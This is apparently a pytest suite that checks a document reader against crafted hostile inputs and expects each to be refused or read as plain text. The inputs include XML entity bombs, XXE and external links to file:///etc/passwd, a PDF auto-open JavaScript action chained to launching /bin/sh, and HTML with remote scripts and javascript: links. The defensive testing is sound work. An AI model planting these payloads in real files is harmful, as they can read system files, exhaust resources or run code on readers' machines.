"""Attacks in office files, PDFs and web pages: refused in one line, or read as text."""

import io
import time
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pytest
from handing_in import BODY, ELSEWHERE, handed_in, reason, text
from made_files import TEXT, docx_of, pdf_of, read_both, xlsx_of, zip_of
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

pytestmark = pytest.mark.usefixtures("nothing_is_fetched")


def members_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(content: bytes, changes: Mapping[str, Callable[[bytes], bytes]]) -> bytes:
    """An office file with some of its parts changed."""
    members = members_of(content)
    return zip_of(members | {name: change(members.get(name, b"")) for name, change in changes.items()})


def test_a_bomb_in_a_part_of_another_name(tmp_path):
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = docx_of(["&a9;"], prolog=f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]>')
    content = changed(
        docx_of(["Fine."]),
        {
            "word/picture.bin": lambda _: members_of(bomb)["word/document.xml"],
            "_rels/.rels": lambda part: part.replace(b"word/document.xml", b"word/picture.bin"),
        },
    )
    assert "declares XML entities" in reason(tmp_path, "a.docx", content)


def test_a_long_text_that_many_cells_share(tmp_path):
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>1</v></c></row>' for n in range(2, 3000))
    content = changed(
        xlsx_of({"A": [["text"], ["B"]]}),
        {
            "xl/sharedStrings.xml": lambda part: part.replace(
                b"<t>B</t>", b"<t>" + b"B" * 1_000_000 + b"</t>"
            ),
            "xl/worksheets/sheet1.xml": lambda part: (
                part[: part.index(b'<row r="2"')] + rows.encode() + part[part.index(b"</sheetData>") :]
            ),
        },
    )
    assert len(content) < 30_000
    assert "too m" in reason(tmp_path, "a.xlsx", content)


def test_more_markup_than_words(tmp_path):
    content = changed(
        docx_of(["Fine."]),
        {"word/document.xml": lambda part: part.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 1_000_000)},
    )
    assert "tags; at most" in reason(tmp_path, "a.docx", content)


def test_a_note_that_is_referred_to_again_and_again(tmp_path):
    again = b'<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>' * 2
    content = changed(
        docx_of(["Fine."]), {"word/document.xml": lambda part: part.replace(b"<w:body>", b"<w:body>" + again)}
    )
    assert "refers to a note twice" in reason(tmp_path, "a.docx", content)


def test_nested_deeper_than_a_parser_goes(tmp_path):
    deep = (b"<w:sdt><w:sdtContent>" * 20_000, b"</w:sdtContent></w:sdt>" * 20_000)
    content = changed(
        docx_of(["Fine."]),
        {
            "word/document.xml": lambda part: part.replace(b"<w:body>", b"<w:body>" + deep[0]).replace(
                b"</w:body>", deep[1] + b"</w:body>"
            )
        },
    )
    assert "damaged" in reason(tmp_path, "a.docx", content)


def test_a_word_file_that_points_elsewhere(tmp_path):
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = (
        f'<Relationship Id="p" Type="{kinds}/image" Target="{ELSEWHERE}" TargetMode="External"/>'
        f'<Relationship Id="q" Type="{kinds}/image" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="t" Type="{kinds}/attachedTemplate" Target="{ELSEWHERE}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    names = (
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    )
    pictures = "".join(
        f"<w:p><w:r><w:drawing {names}><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill>"
        f'<a:blip r:link="{target}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
        for target in "pq"
    ).encode()
    content = changed(
        docx_of(["Fine."]),
        {
            "word/document.xml": lambda part: part.replace(b"<w:body>", b"<w:body>" + pictures),
            "word/_rels/document.xml.rels": lambda part: part.replace(b"</Relationships>", relation),
        },
    )
    assert text(tmp_path, "a.docx", content) == "Fine."


def test_a_workbook_of_formulas_gives_what_they_came_to(tmp_path):
    import xlsxwriter  # noqa: PLC0415

    with xlsxwriter.Workbook(made := io.BytesIO()) as book:
        sheet = book.add_worksheet()
        sheet.write_string(0, 0, "text")
        sheet.write_formula(1, 0, f'=WEBSERVICE("{ELSEWHERE}")', None, "“No,” she said.")
        sheet.write_url(2, 0, ELSEWHERE, string="“Yes,” she said.")
    found = handed_in(tmp_path, "a.xlsx", made.getvalue())
    assert [each.article.text for each in found] == ["“No,” she said.", "“Yes,” she said."]


def pdf_with(contents: bytes, **forms: bytes) -> bytes:
    """A PDF whose page has these contents, with forms to draw."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_of([["Words."]])))
    page = writer.pages[0]

    def stream(content: bytes, **named: object) -> object:
        made = StreamObject()
        made.set_data(zlib.compress(content))
        made[NameObject("/Filter")] = NameObject("/FlateDecode")
        made.update({NameObject(f"/{name}"): value for name, value in named.items()})
        return writer._add_object(made)

    resources = page["/Resources"].get_object()
    drawn = DictionaryObject()
    resources[NameObject("/XObject")] = drawn
    for name, content in forms.items():
        drawn[NameObject(f"/{name}")] = stream(
            content, Type=NameObject("/XObject"), Subtype=NameObject("/Form"), Resources=resources
        )
    page[NameObject("/Contents")] = stream(contents)
    writer.write(made := io.BytesIO())
    return made.getvalue()


def test_forms_that_draw_one_another_ten_times_each(tmp_path, monkeypatch):
    monkeypatch.setattr("quotes.reading.pdf_files.MOST_SECONDS", 0.5)
    forms = {f"F{n}": f"/F{n + 1} Do ".encode() * 10 for n in range(12)}
    started = time.process_time()
    assert "takes more than" in reason(tmp_path, "a.pdf", pdf_with(b"/F0 Do", **forms, F12=b"q Q"))
    assert time.process_time() - started < 10


@pytest.mark.parametrize(
    "unseen",
    [
        b"BT /F1 0 Tf 50 50 Td {} ET",
        b"BT /F1 11 Tf 0 Tz 50 50 Td {} ET",
        b"BT /F1 11 Tf 50 50 Td (Seen.) Tj 0 Tz {} 100 Tz ( So is this.) Tj ET",
        b"q BT /F1 11 Tf 0.01 Tz 50 50 Td {} ET Q BT /F1 11 Tf 50 50 Td (Seen.) Tj ET",
        b"BT /F1 11 Tf 0 0 0 0 50 50 Tm {} ET",
        b"q 0 0 0 0 0 0 cm BT /F1 11 Tf 50 50 Td {} ET Q",
    ],
)
@pytest.mark.parametrize("shown", [b"(Unseen) Tj", b"[(Un) -20 (seen)] TJ", b"(Unseen) '", b'0 0 (Unseen) "'])
def test_words_that_nobody_sees(tmp_path, unseen, shown):
    seen = b"BT /F1 11 Tf 50 90 Td (Words.) Tj ET "
    found = text(tmp_path, "a.pdf", pdf_with(seen + unseen.replace(b"{}", shown)))
    assert "nseen" not in found
    assert "Words." in found
    assert (b"Seen." in unseen) == ("Seen." in found)
    assert (b"So is this." in unseen) == ("So is this." in found)


def test_the_words_of_a_scan_which_are_drawn_without_ink_are_read(tmp_path):
    assert text(tmp_path, "a.pdf", pdf_with(b"BT /F1 11 Tf 3 Tr 50 50 Td (Words.) Tj ET")) == "Words."


def test_a_pdf_of_five_thousand_pages(tmp_path):
    writer = PdfWriter()
    for _ in range(5_000):
        writer.add_blank_page(200, 200)
    writer.write(made := io.BytesIO())
    expected = "this PDF has 5,000 pages; at most 2,000 are read"
    assert reason(tmp_path, "a.pdf", made.getvalue()) == expected


@pytest.mark.parametrize(("value", "is_remarked"), [("“Yes,” she said.", True), ("", False)])
def test_what_is_filled_in_in_a_form_is_not_read_and_a_remark_says_so(tmp_path, value, is_remarked):
    writer = PdfWriter(clone_from=io.BytesIO(pdf_of([['"No," she said.']])))
    named = {"FT": NameObject("/Tx"), "T": TextStringObject("name"), "V": TextStringObject(value)}
    field = writer._add_object(DictionaryObject({NameObject(f"/{key}"): each for key, each in named.items()}))
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([field])}
    )
    writer.write(path := tmp_path / "a.pdf")
    (article,), remarks = read_both(path)
    assert "Yes" not in article.text
    assert [each.outcome for each in remarks] == ["doubted"] * is_remarked
    assert all("what is filled in in its form is not read" in str(each) for each in remarks)


def test_a_workbook_of_a_million_empty_rows(tmp_path):
    """Some of them have a height and an empty cell; most are not there."""
    rows = "".join(
        f'<row r="{n}" ht="20" customHeight="1"><c r="A{n}" s="0"/></row>' for n in range(3, 50_000)
    )
    last = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>“Yes,” she said.</t></is></c></row>'
    content = changed(
        xlsx_of({"A": [["text"], ["“No,” she said."]]}),
        {
            "xl/worksheets/sheet1.xml": lambda part: part.replace(
                b"</sheetData>", f"{rows}{last}</sheetData>".encode()
            )
        },
    )
    found = handed_in(tmp_path, "a.xlsx", content)
    assert [each.article.text for each in found] == ["“No,” she said.", "“Yes,” she said."]


def test_contents_that_unpack_without_end(tmp_path):
    assert "damaged" in reason(tmp_path, "a.pdf", pdf_with(b" " * 300_000_000))


def action(kind: str, **more: PdfObject) -> DictionaryObject:
    """An action of a PDF, which runs when it is opened in a viewer."""
    return DictionaryObject(
        {NameObject("/S"): NameObject(f"/{kind}")}
        | {NameObject(f"/{name}"): value for name, value in more.items()}
    )


def test_a_pdf_that_points_elsewhere_and_runs_things(tmp_path):
    writer = PdfWriter(clone_from=io.BytesIO(pdf_of([['"No," she said.']])))
    writer.add_attachment("a.exe", b"MZ")
    script = TextStringObject(f'app.launchURL("{ELSEWHERE}"); this.submitForm("{ELSEWHERE}");')
    start = action("Launch", F=TextStringObject("/bin/sh"))
    writer.root_object[NameObject("/OpenAction")] = action("JavaScript", JS=script, Next=start)
    writer.add_uri(0, ELSEWHERE, [0, 0, 100, 100])
    writer.write(made := io.BytesIO())
    assert "/OpenAction" in PdfReader(made).trailer["/Root"]
    assert '"No," she said.' in text(tmp_path, "a.pdf", made.getvalue())


HEAD = (
    f'<base href="{ELSEWHERE}/"><meta http-equiv="refresh" content="0; url={ELSEWHERE}">'
    f'<link rel="stylesheet" href="{ELSEWHERE}"><link rel="canonical" href="javascript:alert(1)">'
    f'<script src="{ELSEWHERE}"></script><meta property="og:title" content="&lt;script&gt;a&lt;/script&gt;">'
)


def test_a_page_that_leads_elsewhere(tmp_path):
    page = (
        f'<html><head>{HEAD}</head><body><iframe src="{ELSEWHERE}"></iframe><article>{BODY}</article></body>'
    )
    (found,) = handed_in(tmp_path, "a.html", page.encode())
    assert found.article.text == TEXT
    assert found.article.url is None


def test_a_page_with_entities_of_its_own(tmp_path):
    doctype = '<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>'
    page = f"<?xml version='1.0'?>{doctype}<html><body><article>{BODY}<p>&a;&b;</p></article></body></html>"
    assert "root:" not in text(tmp_path, "a.xhtml", page.encode())


def test_a_page_of_nothing_but_tags(tmp_path):
    assert "tags; at most" in reason(tmp_path, "a.html", b"<html><body>" + b"<p>" * 300_000)


@pytest.mark.parametrize(
    "charset", ["idna", "punycode", "utf-7", "unicode_escape", "zlib", "undefined", "hex"]
)
def test_a_page_that_states_an_encoding_of_no_page(tmp_path, charset):
    body = f"<body><article>{BODY}<p>+ADw-b+AD4- \\ud800</p></article>"
    page = f"<html><head><meta charset={charset}></head>{body}"
    assert text(tmp_path, "a.html", page.encode()) == f"{TEXT}\n\n+ADw-b+AD4- \\ud800"
